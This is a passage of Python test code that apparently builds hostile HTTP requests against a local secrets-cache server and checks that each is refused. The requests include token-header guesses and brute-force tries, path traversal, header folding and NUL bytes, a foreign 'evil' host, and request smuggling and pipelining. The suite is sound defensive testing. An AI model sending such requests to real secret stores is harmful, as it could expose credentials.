        "with a wrong name": [f"X-Aws-Parameters-Secrets-Tokens: {TOKEN}", f"X_Aws_Parameters_Secrets_Token: {TOKEN}"],
        "elsewhere": [f"Authorization: Bearer {TOKEN}", f"Cookie: {header}={TOKEN}"],
        "not ASCII": [f"{header}: \u00e9{TOKEN}"],
        "no UTF-8": [f"{header}: ".encode() + b"\xff" + TOKEN.encode()],
        "a pattern": [f"{header}: *"],
        "null": [f"{header}: null"],
        "the word for it": [f"{header}: session"],
        "8 KB": [f"{header}: {TOKEN * 400}"],
    }
    yield from each(NO_TOKEN, {name: request(*lines) for name, lines in guesses.items()})
    yield from each(
        NO_TOKEN,
        {
            "none, for the health": request(target="/health"),
            "none, for nothing": request(target="/nowhere"),
            "none, for a secret that is not there": request(target="/cache/nobody"),
            "none, with a parameter": request(target=f"{SECRET}?{header}={TOKEN}"),
            "none, an unknown parameter": request(target=f"{SECRET}?x=1"),
            "none, a path around": request(target="/ping/../cache/text"),
            "none, a broken escape": request(target="/cache/%zz"),
            "none, an absolute target": request(target=f"http://localhost{SECRET}"),
            "none, a condition": request("If-None-Match: *"),
        },
    )
    right = f"{header}: {TOKEN}"
    yield from each(
        FORBIDDEN, {"right, and forwarded": request(right, "Via: x"), "right, elsewhere": request(right, host="evil")}
    )
    yield Hostile("folded", (request(f"{header}:\r\n {TOKEN}"),), (BAD,), is_open=False)
    yield Hostile("with NUL", (request(f"{header}: {TOKEN}\x00"),), (BAD,), is_open=False)
    yield Hostile("right, then none", (request(right) + request(),), (VALUE, NO_TOKEN))
    yield Hostile("right, then none, one by one", (request(right), request()), (VALUE, NO_TOKEN))
    yield Hostile("200 guesses", tuple(request(f"{header}: {number}") for number in range(200)), (NO_TOKEN,) * 200)


FAMILIES = [
    Family("Forwarding headers", "`X-Forwarded-For`, `Forwarded`, `Via`, in every form", [*forwarded()]),
    Family("Pages in a browser", "`Origin`, or a `Sec-Fetch-Site` other than `none`", [*of_pages()]),
    Family("Foreign hosts", "`Host` with other names, look-alikes, lists; none, two", [*hosts()]),
    Family("Absolute targets", "`http://other/cache/...`, other schemes", [*absolute_targets()]),
    Family("Other targets", "`CONNECT`, `*`, `host:port`", [*other_targets()]),
    Family("Paths", "`..`, `//`, `%2f`, `%00`, overlong UTF-8, backslashes", [*paths()]),
    Family("Queries", "parameters twice, unknown, with line ends; odd keys", [*queries()]),
    Family("Sizes", "100 KB fields, thousands of fields", [*sizes()]),
    Family("Framing", "`Content-Length` with `Transfer-Encoding`, or either twice", [*framing()]),
    Family("Chunks", "odd sizes, extensions and trailers", [*chunks()]),
    Family("Bodies", "a request in a body, or after it", [*bodies()]),
    Family("Headers", "folds, NUL, bare CR, blanks before the colon", [*headers()]),
    Family("Lines", "bare LF, TLS, HTTP/2, SSH, noise", [*lines()]),
    Family("Methods", "any other than GET and HEAD", [*methods()]),
    Family("Pipelines", "2 to 2,000 requests at once, one hostile", [*pipelines()]),
    Family(
        "Token guesses",
        "almost the token, elsewhere, twice",
        [*tokens()],
        True,
    ),
]


def rows() -> list[str]:
    """Return the families as the rows of a table."""
    found = []
    for family in FAMILIES:
        statuses = Counter(status for case in family.cases for status in {answer[:3] for answer in case.answers})
        gets = ", ".join(status for status, _ in statuses.most_common())
        found.append(f"| {family.name} ({len(family.cases)}) | {family.sent} | {gets} |")
    return found
